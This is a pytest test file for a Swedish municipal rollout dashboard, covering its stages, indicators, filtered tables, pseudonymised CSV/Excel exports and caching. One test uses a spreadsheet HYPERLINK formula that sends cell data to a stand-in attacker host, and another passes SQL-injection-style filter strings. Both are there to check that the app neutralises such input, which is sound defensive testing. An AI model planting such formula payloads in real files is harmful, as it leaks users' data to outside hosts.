"""The dashboard's selectors, pages and exports: one Board gives the funnel, the attention
lists, the unit table and the indicators, in a number of queries that does not grow with the
number of units."""

import csv
import datetime as dt
import io
import re
import zipfile
from collections.abc import Iterator
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import time_machine
from django.core.cache import cache
from django.db import connection
from django.http import QueryDict
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from followup import followups
from followup.models import FollowUp, Reminder, ReminderStatus
from rollout import board, exports
from rollout import services as engine
from rollout.models import Rollout, RolloutStatus, Step, StepState, StepStatus
from routines import services as routines
from tests.factories import (
    MunicipalityFactory,
    UnitFactory,
    book_session,
    make_coordinator,
    make_observer,
)
from training import services as training
from units.models import Municipality, Unit, UnitKind, User

STOCKHOLM = ZoneInfo("Europe/Stockholm")
TODAY = dt.date(2027, 3, 15)


def at(day: dt.date, hour: int = 9) -> dt.datetime:
    return dt.datetime(day.year, day.month, day.day, hour, tzinfo=STOCKHOLM)


def report(rollout: Rollout, actor: User, count: int, level: int, on: dt.date) -> None:
    training.web_course_report(
        actor=actor,
        unit_id=rollout.unit_id,
        reported_on=on,
        completed_count=count,
        mode="groups",
        group_sessions=1,
        knowledge_level=level,
        reflections="",
    )


def implement(rollout: Rollout, actor: User, on: dt.date) -> None:
    for step in (Step.WEB_COURSE, Step.TRAINING):
        engine.step_complete(actor=actor, rollout=rollout, step=step)
    routine = routines.routine_start(actor=actor, rollout=rollout)
    routines.routine_send_for_review(actor=actor, routine=routine)
    for as_coordinator in (False, True):
        routines.routine_approve(
            actor=actor, routine=routine, version=1, as_coordinator=as_coordinator
        )
    routines.routine_implement(
        actor=actor,
        routine=routine,
        implemented_on=on,
        business_plan_location="VP 2",
        staff_informed_on=on,
    )


@pytest.fixture
def world(municipality: Municipality, coordinator: User) -> dict[str, Unit]:
    """Units in every situation, built through the services on the dates they happened."""
    sector = municipality.sectors.order_by("name").first()
    other_sector = municipality.sectors.order_by("name").last()
    units = {
        name: UnitFactory.create(municipality=municipality, name=name, sector=sector, headcount=10)
        for name in ("Ej startad", "Webbkurs", "Förfrågan", "Pausad", "Försenad", "Klar", "Tyst")
    }
    units["Bostadsbolaget"] = UnitFactory.create(
        municipality=municipality,
        name="Bostadsbolaget",
        sector=other_sector,
        kind=UnitKind.HOUSING,
        headcount=0,
    )
    UnitFactory.create(municipality=municipality, name="Arkiverad", is_active=False)
    UnitFactory.create(name="Annan kommun")
    with time_machine.travel(at(dt.date(2026, 1, 10)), tick=False):
        quiet = engine.rollout_start(actor=coordinator, unit=units["Tyst"])
        late = engine.rollout_start(actor=coordinator, unit=units["Försenad"])
        report(late, coordinator, 8, 2, dt.date(2026, 1, 10))
        done = engine.rollout_start(actor=coordinator, unit=units["Klar"])
        report(done, coordinator, 10, 3, dt.date(2026, 1, 10))
        implement(late, coordinator, dt.date(2026, 1, 20))
        implement(done, coordinator, dt.date(2026, 1, 20))
    # Held five days after the 6-month date, and the 12-month one 40 days late.
    for follow_up, held in zip(
        FollowUp.objects.filter(rollout=done).order_by("offset_months"),
        (dt.date(2026, 7, 25), dt.date(2027, 3, 1)),
        strict=True,
    ):
        with time_machine.travel(at(held), tick=False):
            followups.record(
                actor=coordinator,
                follow_up=follow_up,
                routine_in_use="yes",
                effect=4,
                support_needed="none",
            )
    with time_machine.travel(at(dt.date(2027, 3, 1)), tick=False):
        web = engine.rollout_start(actor=coordinator, unit=units["Webbkurs"])
        report(web, coordinator, 4, 2, dt.date(2027, 3, 1))
        engine.rollout_request(actor=coordinator, unit=units["Förfrågan"])
        paused = engine.rollout_start(actor=coordinator, unit=units["Pausad"])
        engine.rollout_pause(actor=coordinator, rollout=paused, reason="Omorganisation")
    assert quiet.pk
    return units


@pytest.fixture
def on_today(world: dict[str, Unit]) -> Iterator[None]:
    """The pages are looked at on TODAY (log in after this, or the idle timeout logs out)."""
    with time_machine.travel(at(TODAY), tick=False):
        yield


def rows_by_name(municipality: Municipality) -> dict[str, board.UnitRow]:
    with time_machine.travel(at(TODAY), tick=False):
        return {row.name: row for row in board.unit_rows(municipality=municipality)}


@pytest.mark.django_db
def test_each_unit_gets_its_stage_status_and_next_action(
    municipality: Municipality, world: dict[str, Unit]
) -> None:
    rows = rows_by_name(municipality)
    assert set(rows) == set(world)  # archived units and other municipalities are left out
    summary = {name: (row.stage, row.status) for name, row in rows.items()}
    assert summary == {
        "Ej startad": ("0", "not_started"),
        "Bostadsbolaget": ("0", "not_started"),
        "Förfrågan": ("0", "attention"),
        "Webbkurs": ("1", "on_track"),
        "Pausad": ("1", "paused"),
        # Implemented 2026-01-20: the 6-month follow-up was due 2026-07-20.
        "Försenad": ("4", "overdue"),
        "Klar": ("done", "done"),
        # Started over a year ago, the web course never reported: overdue, and silent.
        "Tyst": ("1", "overdue"),
    }
    late = rows["Försenad"]
    assert late.action is not None
    assert late.action.code == "follow_up_6"
    assert late.due == dt.date(2026, 7, 20)
    assert rows["Tyst"].stale
    assert rows["Webbkurs"].web_course_completed == 4
    assert rows["Klar"].routine_implemented
    assert rows["Klar"].action is None


@pytest.mark.django_db
def test_funnel_and_attention_lists_count_the_right_units(
    municipality: Municipality, world: dict[str, Unit]
) -> None:
    rows = list(rows_by_name(municipality).values())
    assert board.funnel(rows) == [
        ("0", "Inte påbörjad", 3),
        ("1", "Steg 1 Webbkurs Heder", 3),
        ("2", "Steg 2 Riktad utbildning", 0),
        ("3", "Steg 3 Rutiner", 0),
        ("4", "Steg 4 Uppföljning", 1),
        ("done", "Klar", 1),
    ]
    lists = {
        kind: [r.name for r in members] for kind, members in board.attention(rows, TODAY).items()
    }
    assert lists == {
        "overdue_follow_ups": ["Försenad"],
        "requests": ["Förfrågan"],
        "other_overdue": ["Tyst"],
        "stale": ["Tyst"],  # not "Försenad": quiet in step 4, and overdue above
        "paused": ["Pausad"],
    }


@pytest.mark.django_db
def test_waiting_for_a_follow_up_is_not_stale_and_a_routine_waits_for_whoever_has_not_approved(
    municipality: Municipality, coordinator: User, manager_a: User, unit_a: Unit, unit_b: Unit
) -> None:
    with time_machine.travel(at(TODAY - dt.timedelta(days=100)), tick=False):
        waiting = engine.rollout_start(actor=coordinator, unit=unit_a)
        implement(waiting, coordinator, TODAY - dt.timedelta(days=100))  # 6 months: not yet
        review = engine.rollout_start(actor=coordinator, unit=unit_b)
        for step in (Step.WEB_COURSE, Step.TRAINING):
            engine.step_complete(actor=coordinator, rollout=review, step=step)
        routine = routines.routine_start(actor=manager_a, rollout=review)
        routines.routine_send_for_review(actor=manager_a, routine=routine)
    rows = rows_by_name(municipality)
    quiet = rows[unit_a.name]
    assert (quiet.stage, quiet.status, quiet.stale) == ("4", "on_track", False)

    asked = rows[unit_b.name]
    assert asked.action is not None
    assert (asked.action.code, asked.action.who) == ("approve_routine", "coordinator")
    assert asked.status == "attention"
    with time_machine.travel(at(TODAY - dt.timedelta(days=1)), tick=False):
        routines.routine_approve(actor=coordinator, routine=routine, version=1, as_coordinator=True)
    rows = rows_by_name(municipality)
    approved = rows[unit_b.name]
    assert approved.action is not None
    assert (approved.action.code, approved.action.who) == ("manager_approve_routine", "manager")
    assert approved.status == "on_track"
    assert unit_b.name not in [
        row.name
        for row in board.attention(list(rows.values()), TODAY).get("routines_to_review", [])
    ]


@pytest.mark.django_db
def test_a_booked_session_whose_day_has_passed_makes_the_training_overdue(
    municipality: Municipality, coordinator: User, unit_a: Unit
) -> None:
    booked_on = TODAY - dt.timedelta(days=20)
    with time_machine.travel(at(booked_on), tick=False):
        rollout = engine.rollout_start(actor=coordinator, unit=unit_a)
        engine.step_complete(actor=coordinator, rollout=rollout, step=Step.WEB_COURSE)
        book_session(
            rollout,
            coordinator,
            at(TODAY + dt.timedelta(days=3), 13),
            duration_minutes=90,
            place="Aulan",
            video_url="",
            expected_participants=10,
        )
    row = rows_by_name(municipality)[unit_a.name]
    assert row.action is not None
    assert (row.action.code, row.due, row.status) == (
        "hold_training",
        TODAY + dt.timedelta(days=3),
        "on_track",
    )
    # Five days after the session, nobody has recorded it as held.
    with time_machine.travel(at(TODAY + dt.timedelta(days=8)), tick=False):
        row = {r.name: r for r in board.unit_rows(municipality=municipality)}[unit_a.name]
    assert row.action is not None
    assert (row.action.code, row.due, row.status) == (
        "hold_training",
        TODAY + dt.timedelta(days=3),
        "overdue",
    )


@pytest.mark.django_db
def test_indicators_follow_from_the_rows(
    municipality: Municipality, world: dict[str, Unit]
) -> None:
    rows = list(rows_by_name(municipality).values())
    ind = board.indicators(rows, TODAY)
    # Staff 7 units × 10 + 0; course: 8 + 10 + 4.
    assert (ind.reach.part, ind.reach.whole, ind.reach.percent) == (22, 70, 31)
    # Started: Webbkurs, Pausad, Försenad, Klar, Tyst (not the request) of 8 active units.
    assert (ind.adoption.part, ind.adoption.whole) == (5, 8)
    assert (ind.implementation.part, ind.implementation.whole) == (2, 5)
    # Klar's 6-month follow-up was on time, its 12-month one 40 days late; both of Försenad's
    # are past their dates and not held.
    assert (ind.follow_ups_on_time.part, ind.follow_ups_on_time.whole) == (1, 4)
    assert (ind.in_use_at_12_months.part, ind.in_use_at_12_months.whole) == (1, 1)
    assert ind.effect_pairs == 1
    assert ind.mean_knowledge_level == 3
    assert ind.mean_effect == 4
    assert ind.effect_by_level[2] == (3, 1, 4)
    assert ind.median_step_days[Step.WEB_COURSE] == 0
    # One decimal whatever the count: "0,0" everywhere, not "0" next to "0,0".
    assert all(
        isinstance(days, float) for days in ind.median_step_days.values() if days is not None
    )


@pytest.mark.parametrize(
    "query",
    [
        "sektor=abc&typ=zzz&steg=9&status=x&behov=y&sort=drop+table&page=-1",
        "sektor=999999&sort=-nonsense",
        "sektor=%00&q=%27%3B--",
    ],
)
@pytest.mark.django_db
def test_bad_filters_fall_back_to_defaults(
    client: Client,
    coordinator: User,
    municipality: Municipality,
    world: dict[str, Unit],
    on_today: None,
    query: str,
) -> None:
    client.force_login(coordinator)
    parsed = board.TableFilter.from_params(QueryDict(query), sector_ids=[1])
    assert parsed.sector is None
    assert parsed.kind == ""
    assert parsed.sort == "name"
    response = client.get(reverse("rollout:unit_table", args=[municipality.pk]) + "?" + query)
    assert response.status_code == 200
    export = client.get(
        reverse("rollout:unit_table_export", args=[municipality.pk, "csv"]) + "?" + query
    )
    assert export.status_code == 200


@pytest.mark.django_db
def test_table_filters_search_and_sort(
    client: Client,
    coordinator: User,
    municipality: Municipality,
    world: dict[str, Unit],
    on_today: None,
) -> None:
    client.force_login(coordinator)
    url = reverse("rollout:unit_table", args=[municipality.pk])
    overdue = client.get(url, {"status": "overdue", "sort": "-name"})
    housing = client.get(url, {"typ": "housing"})
    search = client.get(url, {"q": "KLAR"})
    sector = client.get(url, {"sektor": world["Bostadsbolaget"].sector_id})
    assert [r.name for r in overdue.context["page"].object_list] == ["Tyst", "Försenad"]
    assert [r.name for r in housing.context["page"].object_list] == ["Bostadsbolaget"]
    assert [r.name for r in search.context["page"].object_list] == ["Klar"]
    assert [r.name for r in sector.context["page"].object_list] == ["Bostadsbolaget"]
    assert 'aria-sort="descending"' in overdue.content.decode()
    assert "Försenad" in overdue.content.decode()


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.django_db
def test_exports_honour_the_filters_and_pseudonymise(
    client: Client,
    observer: User,
    municipality: Municipality,
    world: dict[str, Unit],
    on_today: None,
) -> None:
    client.force_login(observer)
    url = reverse("rollout:unit_table_export", args=[municipality.pk, "xlsx"])
    sector = str(world["Klar"].sector_id)
    response = client.get(url, {"sektor": sector})
    pseudo = client.get(url, {"sektor": sector, "pseudonym": "1"})
    pseudo_again = client.get(url.replace("xlsx", "csv"), {"sektor": sector, "pseudonym": "1"})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment;" in response["Content-Disposition"]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0][:3] == ["Enhet", "Sektor", "Typ"]
    assert sorted(row[0] for row in values[1:]) == sorted(
        name for name in world if name != "Bostadsbolaget"
    )
    late = next(row for row in values if row[0] == "Försenad")
    assert late[6] == "Försenad"
    assert late[8].date() == dt.date(2026, 7, 20)

    pseudonymised = openpyxl.load_workbook(io.BytesIO(pseudo.content)).active
    names = [row[0].value for row in pseudonymised.iter_rows(min_row=2)]
    assert pseudonymised["A1"].value == "Pseudonym"
    assert not set(names) & set(world)
    assert all(name.startswith("E-") and len(name) == 12 for name in names)
    # The same unit gets the same pseudonym in every export (CSV and Excel alike).
    assert sorted(row[0] for row in read_csv(pseudo_again.content)[1:]) == sorted(names)
    content = pseudo.content + pseudo_again.content
    # Names that are not also words of the table (a status is called "Klar", a step "Webbkurs").
    assert not any(name.encode() in content for name in ("Tyst", "Ej startad", "Förfrågan"))


@pytest.mark.django_db
def test_a_name_that_looks_like_a_formula_is_exported_as_text(
    client: Client, coordinator: User, municipality: Municipality, unit_a: Unit
) -> None:
    name = '=HYPERLINK("http://evil.example/?x="&A3,"klicka")'
    unit_a.name = name
    unit_a.save()
    client.force_login(coordinator)
    url = reverse("rollout:unit_table_export", args=[municipality.pk, "xlsx"])
    workbook = client.get(url).content
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere
    cells = [c.value for row in openpyxl.load_workbook(io.BytesIO(workbook)).active for c in row]
    assert name in cells  # the name itself, as text
    rows = read_csv(client.get(url.replace("xlsx", "csv")).content)
    assert [row[0] for row in rows[1:]] == ["'" + name]
    assert exports._text(-3) == "-3"  # numbers stay numbers


@pytest.mark.django_db
def test_an_empty_selection_exports_valid_empty_files(
    client: Client,
    coordinator: User,
    municipality: Municipality,
    world: dict[str, Unit],
    on_today: None,
) -> None:
    client.force_login(coordinator)
    csv_response = client.get(
        reverse("rollout:unit_table_export", args=[municipality.pk, "csv"]), {"q": "finns inte"}
    )
    rows = read_csv(csv_response.content)
    assert len(rows) == 1
    assert rows[0][0] == "Enhet"
    xlsx = client.get(
        reverse("rollout:unit_table_export", args=[municipality.pk, "xlsx"]), {"q": "finns inte"}
    )
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet.max_row == 1
    assert (
        client.get(reverse("rollout:unit_table_export", args=[municipality.pk, "pdf"])).status_code
        == 404
    )


@pytest.mark.django_db
def test_indicator_exports_carry_the_page_numbers(
    client: Client,
    observer: User,
    municipality: Municipality,
    world: dict[str, Unit],
    on_today: None,
) -> None:
    client.force_login(observer)
    page = client.get(reverse("rollout:indicators", args=[municipality.pk]))
    xlsx = client.get(reverse("rollout:indicators_export", args=[municipality.pk, "xlsx"]))
    csv_response = client.get(reverse("rollout:indicators_export", args=[municipality.pk, "csv"]))
    assert page.status_code == 200
    html = page.content.decode()
    assert "31 %" in html
    assert "22 av 70" in html
    book = openpyxl.load_workbook(io.BytesIO(xlsx.content))
    assert book.sheetnames == ["Indikatorer", "Tid per steg", "Per sektor", "Effekt"]
    reach = [cell.value for cell in book["Indikatorer"][2]]
    assert reach[1:] == [22, 70, 31]
    assert any(
        row[:4] == ["Räckvidd: andel av personalen som gått webbkursen", "22", "70", "31"]
        for row in read_csv(csv_response.content)
    )


def failed_reminder(recipient: User, unit: Unit) -> Reminder:
    return Reminder.objects.create(
        recipient=recipient,
        kind="nudge",
        subject_key="x",
        due_on=TODAY,
        unit=unit,
        subject="s",
        body="b",
        status=ReminderStatus.FAILED,
        next_attempt_at=timezone.now(),
    )


@pytest.mark.django_db
def test_dashboard_shows_funnel_attention_and_links_to_where_it_is_handled(
    client: Client, coordinator: User, municipality: Municipality, world: dict[str, Unit]
) -> None:
    failed_reminder(coordinator, world["Webbkurs"])
    client.force_login(coordinator)
    assert client.get(reverse("rollout:dashboard_home"))["Location"] == reverse(
        "rollout:dashboard", args=[municipality.pk]
    )
    response = client.get(reverse("rollout:dashboard", args=[municipality.pk]))
    html = response.content.decode()
    assert "Försenade uppföljningar" in html
    follow_up_page = reverse("followup:step", args=[world["Försenad"].pk])
    assert f'href="{follow_up_page}"' in html
    assert "skulle ha gjorts 2026-07-20" in html
    assert "1 påminnelse kunde inte skickas" in html
    assert reverse("followup:outbox", args=[municipality.pk]) + "?status=failed" in html
    assert "<svg" in html
    assert '<title id="funnel-title">Enheter per steg</title>' in html
    # SVG coordinates are plain numbers, never Swedish decimal commas.
    widths = re.findall(r'<rect x="260" y="[0-9.]+" width="([^"]+)"', html)
    assert widths
    assert all(re.fullmatch(r"[0-9]+(\.[0-9]+)?", width) for width in widths)
    assert any(float(width) > 0 for width in widths)
    # The funnel's numbers are there as a table too, each a link to the filtered table.
    assert f'href="{reverse("rollout:unit_table", args=[municipality.pk])}?steg=4">Steg 4' in html


@pytest.mark.django_db
def test_observer_reads_but_sees_no_links_for_coordinators(
    client: Client, observer: User, municipality: Municipality, world: dict[str, Unit]
) -> None:
    failed_reminder(observer, world["Webbkurs"])
    client.force_login(observer)
    response = client.get(reverse("rollout:dashboard", args=[municipality.pk]))
    assert response.status_code == 200
    assert reverse("followup:outbox", args=[municipality.pk]) not in response.content.decode()


@pytest.mark.django_db
def test_who_may_open_the_dashboard(
    client: Client,
    municipality: Municipality,
    other_coordinator: User,
    manager_a: User,
    superuser: User,
) -> None:
    url = reverse("rollout:dashboard", args=[municipality.pk])
    client.force_login(other_coordinator)
    assert client.get(url).status_code == 404
    client.force_login(manager_a)
    assert client.get(url).status_code == 404
    assert client.get(reverse("rollout:dashboard_home")).status_code == 403
    client.force_login(superuser)
    MunicipalityFactory.create()
    choose = client.get(reverse("rollout:dashboard_home"))
    assert choose.status_code == 200
    assert municipality.name in choose.content.decode()


@pytest.mark.django_db
def test_a_municipality_without_units_gets_a_helpful_empty_dashboard(
    client: Client, coordinator: User, municipality: Municipality
) -> None:
    client.force_login(coordinator)
    for name in ("dashboard", "unit_table", "indicators"):
        response = client.get(reverse(f"rollout:{name}", args=[municipality.pk]))
        assert response.status_code == 200
    dashboard = client.get(reverse("rollout:dashboard", args=[municipality.pk])).content.decode()
    assert "Lägg till den första enheten" in dashboard
    assert reverse("units:create", args=[municipality.pk]) in dashboard
    # Or all of them at once: a municipality starts with tens or hundreds of units.
    assert (
        f'<a href="{reverse("units:import", args=[municipality.pk])}">importera alla' in dashboard
    )
    client.force_login(make_observer(municipality))
    observed = client.get(reverse("rollout:dashboard", args=[municipality.pk])).content.decode()
    assert reverse("units:import", args=[municipality.pk]) not in observed


def bulk_world(municipality: Municipality, count: int) -> None:
    """`count` units spread over every stage, inserted in bulk (the services would take long)."""
    sectors = list(municipality.sectors.all())
    units = Unit.objects.bulk_create(
        Unit(
            municipality=municipality,
            name=f"Enhet {index:05}",
            sector=sectors[index % len(sectors)],
            kind=UnitKind.MUNICIPAL,
            headcount=10 + index % 7,
        )
        for index in range(count)
    )
    now = timezone.now()
    rollouts = Rollout.objects.bulk_create(
        Rollout(
            unit=unit,
            status=[RolloutStatus.ACTIVE, RolloutStatus.PAUSED, RolloutStatus.COMPLETED][i % 3],
            started_at=now - dt.timedelta(days=400),
            completed_at=now if i % 3 == 2 else None,
        )
        for i, unit in enumerate(units)
        if i % 5
    )
    StepState.objects.bulk_create(
        StepState(
            rollout=rollout,
            step=step,
            status=StepStatus.DONE if step <= i % 5 else StepStatus.IN_PROGRESS,
            started_at=now - dt.timedelta(days=400 - 30 * step),
            completed_at=now - dt.timedelta(days=390 - 30 * step) if step <= i % 5 else None,
        )
        for i, rollout in enumerate(rollouts)
        for step in Step.values
    )
    FollowUp.objects.bulk_create(
        FollowUp(rollout=rollout, offset_months=months)
        for i, rollout in enumerate(rollouts)
        if i % 5 == 3
        for months in (6, 12)
    )


@pytest.mark.django_db
def test_the_dashboard_needs_the_same_queries_for_20_and_2000_units(
    client: Client, django_assert_max_num_queries
) -> None:
    small, large = MunicipalityFactory.create(), MunicipalityFactory.create()
    bulk_world(small, 20)
    bulk_world(large, 2000)
    counts = {}
    for municipality in (small, large):
        coordinator = make_coordinator(municipality)
        client.force_login(coordinator)
        for name in ("dashboard", "unit_table", "indicators"):
            url = reverse(f"rollout:{name}", args=[municipality.pk])
            client.get(url)  # the session warm
            cache.clear()  # the Board computed afresh…
            with CaptureQueriesContext(connection) as queries:
                assert client.get(url).status_code == 200
            with CaptureQueriesContext(connection) as cached:  # …and from the cache
                assert client.get(url).status_code == 200
            counts[municipality.pk, name] = (len(queries), len(cached))
    for name in ("dashboard", "unit_table", "indicators"):
        assert counts[small.pk, name] == counts[large.pk, name], (name, counts)
    with django_assert_max_num_queries(25):
        cache.clear()
        client.get(reverse("rollout:dashboard", args=[large.pk]))


def test_pseudonyms_are_stable_and_distinct(settings) -> None:
    settings.SECRET_KEY = "k" * 50
    first = exports.pseudonym(municipality_id=1, unit_id=7)
    assert first == exports.pseudonym(municipality_id=1, unit_id=7)
    assert first != exports.pseudonym(municipality_id=1, unit_id=8)
    assert first != exports.pseudonym(municipality_id=2, unit_id=7)
    settings.SECRET_KEY = "j" * 50
    assert first != exports.pseudonym(municipality_id=1, unit_id=7)


# Committed for real: the generation moves once the change is committed, as in a request.
@pytest.mark.django_db(transaction=True)
def test_a_change_shows_at_once_for_the_person_who_made_it(
    client: Client, coordinator: User, municipality: Municipality, unit_a: Unit
) -> None:
    client.force_login(coordinator)
    url = reverse("rollout:dashboard", args=[municipality.pk])
    first = client.get(url)
    assert first.context["units_started"] == 0
    # The second request is served from units.pagecache (no template rendered).
    assert client.get(url).context is None
    client.post(reverse("rollout:start", args=[unit_a.pk]))
    assert client.get(url).context["units_started"] == 1
    client.post(reverse("units:archive", args=[unit_a.pk]), {"archive": "1"})
    assert client.get(url).context["units_total"] == 0


@pytest.mark.django_db
def test_the_process_keeps_a_board_no_longer_than_the_shared_cache(
    municipality: Municipality, unit_a: Unit, monkeypatch: pytest.MonkeyPatch
) -> None:
    first = board.cached_board(municipality=municipality)
    key, _light = board._keys(municipality)
    assert board._recent_board(key) is first
    later = timezone.now() + dt.timedelta(seconds=board.CACHE_SECONDS + 1)
    monkeypatch.setattr(board.timezone, "now", lambda: later)
    assert board._recent_board(key) is None


@pytest.mark.django_db
def test_a_change_committed_while_the_board_is_built_shows_on_the_next_request(
    municipality: Municipality, coordinator: User, unit_a: Unit, monkeypatch: pytest.MonkeyPatch
) -> None:
    from units import freshness

    build = board.board

    def build_then_change(**kwargs):
        built = build(**kwargs)
        # Another request starts the unit and commits after this build read the data.
        engine.rollout_start(actor=coordinator, unit=unit_a)
        freshness._bump(municipality.pk)  # what the commit hook does
        return built

    monkeypatch.setattr(board, "board", build_then_change)
    assert board.cached_board(municipality=municipality).started_count == 0
    monkeypatch.setattr(board, "board", build)
    assert board.cached_board(municipality=municipality).started_count == 1
    assert board.cached_board(municipality=municipality, light=True).started_count == 1


@pytest.mark.django_db
def test_a_light_board_is_kept_no_longer_than_its_full_board_may_be(
    municipality: Municipality, unit_a: Unit, monkeypatch: pytest.MonkeyPatch
) -> None:
    full = board.cached_board(municipality=municipality)  # kept in the process
    stored: list[tuple[str, object]] = []
    monkeypatch.setattr(
        board.cache, "set", lambda key, value, timeout=None: stored.append((key, timeout))
    )
    later = full.built_at + dt.timedelta(seconds=board.CACHE_SECONDS - 10)
    monkeypatch.setattr(board.timezone, "now", lambda: later)
    assert board.cached_board(municipality=municipality, light=True).started_count == 0
    [(key, timeout)] = stored
    assert key.startswith("board:light:")
    assert timeout == 10


@pytest.mark.django_db
def test_changing_the_follow_up_months_leaves_started_follow_ups_as_they_were(
    municipality: Municipality, coordinator: User, unit_a: Unit
) -> None:
    implemented = TODAY - dt.timedelta(days=120)
    with time_machine.travel(at(implemented), tick=False):
        rollout = engine.rollout_start(actor=coordinator, unit=unit_a)
        implement(rollout, coordinator, implemented)  # follow-ups at 6 and 12 months
    municipality.followup_offsets_months = [3, 6, 12]
    municipality.save()
    row = rows_by_name(municipality)[unit_a.name]
    assert row.action is not None
    assert (row.action.code, row.status) == ("follow_up_6", "on_track")  # no 3-month one is late

    with time_machine.travel(at(TODAY), tick=False):
        followups.record(
            actor=coordinator,
            follow_up=FollowUp.objects.get(rollout=rollout, offset_months=6),
            routine_in_use="yes",
            effect=4,
            support_needed="none",
        )
    municipality.followup_offsets_months = [6]
    municipality.save()
    row = rows_by_name(municipality)[unit_a.name]
    assert row.action is not None
    assert row.action.code == "follow_up_12"  # not "complete": the 12-month one is still open


@pytest.mark.django_db
def test_a_declined_request_for_a_new_round_leaves_the_completed_round_in_view(
    municipality: Municipality, coordinator: User, manager_a: User, unit_a: Unit
) -> None:
    from rollout import selectors

    implemented = TODAY - dt.timedelta(days=400)
    with time_machine.travel(at(implemented), tick=False):
        first = engine.rollout_start(actor=coordinator, unit=unit_a)
        implement(first, coordinator, implemented)
    for follow_up in FollowUp.objects.filter(rollout=first):
        with time_machine.travel(at(TODAY - dt.timedelta(days=10)), tick=False):
            followups.record(
                actor=coordinator,
                follow_up=follow_up,
                routine_in_use="yes",
                effect=4,
                support_needed="none",
            )
    with time_machine.travel(at(TODAY - dt.timedelta(days=5)), tick=False):
        again = engine.rollout_request(actor=manager_a, unit=unit_a)
        engine.rollout_decline(actor=coordinator, rollout=again, reason="Inte nu")
    row = rows_by_name(municipality)[unit_a.name]
    assert (row.stage, row.status, row.routine_implemented) == ("done", "done", True)
    shown = selectors.workspace(unit=unit_a)
    assert shown.rollout == first
    assert shown.earlier_rounds == [again]
